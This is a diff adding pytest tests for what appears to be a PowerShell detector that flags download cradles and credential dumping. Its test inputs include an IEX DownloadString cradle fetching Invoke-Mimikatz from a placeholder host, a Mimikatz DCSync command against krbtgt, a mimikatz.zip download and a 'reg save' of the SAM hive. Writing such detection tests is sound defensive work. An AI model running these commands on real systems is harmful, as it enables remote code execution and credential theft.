@@ -37,3 +37,25 @@ def test_an_encoded_option_in_text_with_another_variable_or_after_file_is_no_enc
         Write-Output $enc
     """)
     assert lines_of(result, "PSEncodedCommand") == []
+
+
+def test_mimikatz_fetched_from_a_url_and_run_is_reported_where_it_runs() -> None:
+    result = analyze("""
+        IEX (New-Object Net.WebClient).DownloadString('https://raw.example.com/tools/Invoke-Mimikatz.ps1')
+        Invoke-Mimikatz -Command '"lsadump::dcsync /domain:corp.local /user:krbtgt"'
+    """)
+    assert lines_of(result, "PSCredentialDumping") == [2]
+    assert lines_of(result, "PSDownloadCradle") == [1]
+
+
+def test_mimikatz_only_fetched_or_named_outside_a_url_is_still_reported_there() -> None:
+    only_fetched = analyze("""
+        IEX (New-Object Net.WebClient).DownloadString('https://raw.example.com/tools/Invoke-Mimikatz.ps1')
+        Get-Process | Out-File C:\\temp\\p.txt
+    """)
+    assert lines_of(only_fetched, "PSCredentialDumping") == [1]
+    saved = analyze("""
+        Invoke-WebRequest -Uri 'https://raw.example.com/mimikatz.zip' -OutFile C:\\temp\\mimikatz.zip
+        reg save HKLM\\SAM C:\\temp\\sam.hiv
+    """)
+    assert lines_of(saved, "PSCredentialDumping") == [1, 2]  # the saved file's name is no URL
